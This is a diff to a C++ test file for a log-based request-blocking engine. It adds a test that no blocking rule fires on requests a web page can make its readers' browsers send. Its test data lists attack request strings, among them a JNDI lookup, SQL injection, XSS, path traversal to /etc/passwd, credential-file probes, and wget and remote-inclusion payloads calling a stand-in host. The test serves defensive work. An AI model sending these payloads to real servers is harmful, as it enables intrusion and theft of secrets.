@@ -8,7 +8,9 @@
 // through a fresh engine: the key is what the rule extracts from the last line (for a note_only
 // rule, what it notes). A rule that matches every counter-example written for its format, in
 // all the packs, matches everything and is refused. Every raw example parses with a time (the
-// raw parser reads its stamp), but those listed in kUntimedRawExamples with why.
+// raw parser reads its stamp), but those listed in kUntimedRawExamples with why. No rule that
+// blocks may match what a page can make its readers' browsers send (a drive-by corpus of URLs
+// and referers with stock user agents): a page would ban its readers.
 
 #include <iterator>
 #include <map>
@@ -17,6 +19,7 @@
 #include <vector>
 
 #include "absl/strings/match.h"
+#include "absl/strings/str_cat.h"
 #include "absl/strings/str_join.h"
 #include "absl/strings/str_split.h"
 #include "gtest/gtest.h"
@@ -241,6 +244,103 @@ TEST(PackTest, EveryRawExampleHasATime) {
                                 << "\" is listed as untimed but names no raw example: drop it";
   }
   EXPECT_GE(timed, 200);
+}
+
+// What a page can make its readers' browsers send (a forum post or an ad with <img src>, a link,
+// a form or a no-cors fetch, from each reader's own address, with a stock user agent and the
+// page's URL as the referer): the request line (GET or POST, any path and query) and the
+// referer. The server answers with whatever it answers (200, 404, WordPress's 200 to a failed
+// login). No rule whose decision is a block may match any such line, in any shipped pack: a page
+// would ban its readers. Challenges are fine (a person passes them). Kept in the shapes a web
+// server's line reaches the engine in: combined, with a virtual host in front, and through syslog.
+struct DriveByRequest {
+  const char* method;
+  const char* target;  // path and query, as the server logs them
+  const char* status;
+};
+constexpr DriveByRequest kDriveByRequests[] = {
+    {"GET", "/?q=${jndi:ldap://x.example.net/a}", "200"},
+    {"GET", "/?q=$%7Bjndi:ldap://x.example.net/a%7D", "200"},
+    {"GET", "/.env", "404"},
+    {"GET", "/.git/config", "404"},
+    {"GET", "/.aws/credentials", "404"},
+    {"GET", "/backup.sql", "404"},
+    {"POST", "/wp-login.php", "200"},
+    {"GET", "/wp-login.php", "200"},
+    {"POST", "/xmlrpc.php", "200"},
+    {"GET", "/HNAP1/", "404"},
+    {"GET", "/wp-admin/setup-config.php", "404"},
+    {"GET", "/phpmyadmin/", "404"},
+    {"GET", "/static/..%2f..%2f..%2fetc/passwd", "404"},
+    {"GET", "/?file=../../../../etc/passwd", "200"},
+    {"GET", "/?id=1'%20OR%201=1--", "200"},
+    {"GET", "/?id=1%27+OR+1=1--", "200"},
+    {"GET", "/?id=1+UNION+SELECT+1,2,3--", "200"},
+    {"GET", "/?q=<script>alert(1)</script>", "200"},
+    {"GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "200"},
+    {"GET", "/?c=;wget+http://x.example.net/a.sh", "200"},
+    {"GET", "/cgi-bin/test.cgi?;wget%20http://x.example.net/a.sh", "404"},
+    {"GET", "/?u=http://x.example.net/shell.txt", "200"},
+    {"GET", "/index.php?page=http://x.example.net/shell.txt?", "200"},
+    {"GET", "/no-such-page", "404"},
+    {"GET", "/img/a1.png", "404"},
+};
+constexpr const char* kStockAgents[] = {
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+};
+constexpr const char* kForumPage = "https://forum.example.org/t/welcome/12";
+
+TEST(PackTest, NoBlockingRuleMatchesWhatAPageMakesABrowserSend) {
+  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
+  ASSERT_TRUE(set.ok()) << set.status();
+  std::vector<std::string> lines;
+  for (const DriveByRequest& r : kDriveByRequests) {
+    for (const char* agent : kStockAgents) {
+      // The payload in the request line, the forum page as the referer.
+      lines.push_back(absl::StrCat("203.0.113.9 - - [03/Mar/2026:14:02:01 +0000] \"", r.method, " ",
+                                   r.target, " HTTP/1.1\" ", r.status, " 153 \"", kForumPage,
+                                   "\" \"", agent, "\""));
+      // The payload in the referer (the page's own URL), the request a plain one.
+      lines.push_back(absl::StrCat("203.0.113.9 - - [03/Mar/2026:14:02:01 +0000] ",
+                                   "\"GET / HTTP/1.1\" 200 612 \"https://forum.example.org",
+                                   r.target, "\" \"", agent, "\""));
+    }
+  }
+  struct Shape {
+    palisade::v1::LogFormat format;
+    const char* prefix;
+  };
+  constexpr Shape kShapes[] = {
+      {palisade::v1::LOG_FORMAT_COMBINED, ""},
+      {palisade::v1::LOG_FORMAT_COMBINED, "www.example.com:443 "},
+      {palisade::v1::LOG_FORMAT_SYSLOG, "Mar  3 14:02:01 web-1 nginx: "},
+      {palisade::v1::LOG_FORMAT_SYSLOG5424, "<190>1 2026-03-03T14:02:01Z web-1 apache2 - - - "},
+  };
+  Engine engine(*set, EngineOptions());
+  const absl::Time time = absl::FromUnixSeconds(1'772'000'000);
+  int checked = 0;
+  for (const Shape& shape : kShapes) {
+    LineParser parser(shape.format);
+    for (const std::string& body : lines) {
+      const std::string line = absl::StrCat(shape.prefix, body);
+      ParsedLine parsed;
+      ASSERT_TRUE(parser.Parse(line, time, &parsed).ok()) << line;
+      engine.MatchOnly(
+          shape.format, parsed,
+          [&](const CompiledRule& rule, absl::string_view) {
+            EXPECT_NE(rule.proto.decision().action(), palisade::v1::ACTION_BLOCK)
+                << rule.pack << "/" << rule.id()
+                << " blocks what a page can make its readers' browsers send (challenge it, or "
+                   "match it only in the user agent): "
+                << line;
+          },
+          time);
+      ++checked;
+    }
+  }
+  EXPECT_GE(checked, 400);
 }
 
 }  // namespace
